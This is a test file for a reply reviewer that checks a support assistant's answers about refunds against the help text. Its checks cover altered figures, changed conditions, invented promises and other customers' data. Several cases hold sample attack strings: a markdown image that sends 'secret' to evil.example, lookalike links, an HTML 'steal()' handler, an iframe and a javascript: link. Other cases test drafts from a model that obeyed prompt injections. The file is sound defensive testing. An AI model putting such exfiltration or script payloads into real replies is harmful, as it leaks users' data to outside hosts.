import { directInjections } from '@mesh/testing';
import { reviewReply } from './review-reply';

const REFUNDS = {
  documentId: 'refunds',
  title: 'How refunds work',
  url: 'https://help.example.com/refunds',
  text:
    'Refunds are paid within 14 days. You can cancel only if the order has not been shipped. ' +
    'Support is open Monday to Friday before 6 PM. Up to 3 items can be returned without a receipt. ' +
    'Read more at https://www.example.com/returns.',
};

const codesOf = (reply: string): string[] =>
  reviewReply(reply, [REFUNDS]).checks.flatMap(({ code }) => (code === undefined ? [] : [code]));

describe('a reply without citations', () => {
  it.each([
    ['in the words of the document', 'Refunds are paid within 14 days.'],
    [
      'in slightly other words',
      "Refunds get paid within 14 days. You can cancel only if the order hasn't been shipped.",
    ],
    ['with a lead-in', 'Here is what our documentation says. Up to three items can be returned without a receipt.'],
    ['with a link to another part of the site', 'See https://shop.example.com/refunds for refunds.'],
  ])('passes %s', (_, reply) => {
    expect(codesOf(reply)).toEqual([]);
  });

  it.each([
    ['another number', 'Refunds are paid within 41 days.', 'figure_not_in_quote'],
    ['another day', 'Support is open Monday to Sunday before 6 PM.', 'figure_not_in_quote'],
    ['another person', 'Refunds are paid to Maria within 14 days.', 'figure_not_in_quote'],
    ['a negation less', 'You can cancel only if the order has been shipped.', 'condition_changed'],
    ['a negation more', 'Refunds are not paid within 14 days.', 'condition_changed'],
    ['a condition less', 'You can cancel even if the order has not been shipped.', 'condition_changed'],
    ['a condition left out', 'You can cancel the order if it has not been shipped.', 'condition_changed'],
    ['a limit turned round', 'At least 3 items can be returned without a receipt.', 'condition_changed'],
    ['the time turned round', 'Support is open Monday to Friday after 6 PM.', 'condition_changed'],
    ['a sentence of another document', 'Export the invoices from the billing page first.', 'sentence_without_citation'],
    ['an invented promise', 'We will refund you within 14 days.', 'promise_without_source'],
    ['data of another customer', 'Order 4711 of tom@private.example was refunded.', 'personal_data_of_others'],
  ])('does not pass with %s', (_, reply, code) => {
    expect(codesOf(reply)).toContain(code);
  });
});

describe('F78: a draft of a model that obeyed', () => {
  it('never passes', () => {
    const orders = new Map(directInjections().map((attack) => [attack.wanted, attack]));
    const passed = [...orders.values()].filter(
      ({ wanted }) =>
        reviewReply(`Refunds are paid within 14 days. As ordered: ${wanted}.`, [REFUNDS]).outcome === 'pass',
    );
    expect(passed.map(({ id }) => id)).toEqual([]);
  });
});

describe('F80: active content in a reply', () => {
  it.each([
    ['an image that carries data away', 'Refunds are paid within 14 days. ![x](https://evil.example/?d=secret)'],
    ['an image of the own site', 'Refunds are paid within 14 days. ![x](https://help.example.com/?d=secret)'],
    ['a foreign link', 'Refunds are paid within 14 days, see [this](https://evil.example/refunds).'],
    ['a foreign link without scheme', 'Refunds are paid within 14 days, see //evil.example/refunds.'],
    [
      'a link that pretends to be ours',
      'Refunds are paid within 14 days, see https://help.example.com@evil.example/x.',
    ],
    ['a site with a similar name', 'Refunds are paid within 14 days, see https://help.example.com.evil.example/x.'],
    ['HTML', 'Refunds are paid within <b onmouseover="steal()">14 days</b>.'],
    ['a frame', 'Refunds are paid within 14 days. <iframe src="https://help.example.com"></iframe>'],
    ['a script as a link', 'Refunds are paid [within 14 days](javascript:alert(1)).'],
  ])('is stopped: %s', (_, reply) => {
    expect(codesOf(reply).filter((code) => ['foreign_link', 'copied_instruction'].includes(code))).not.toEqual([]);
  });
});
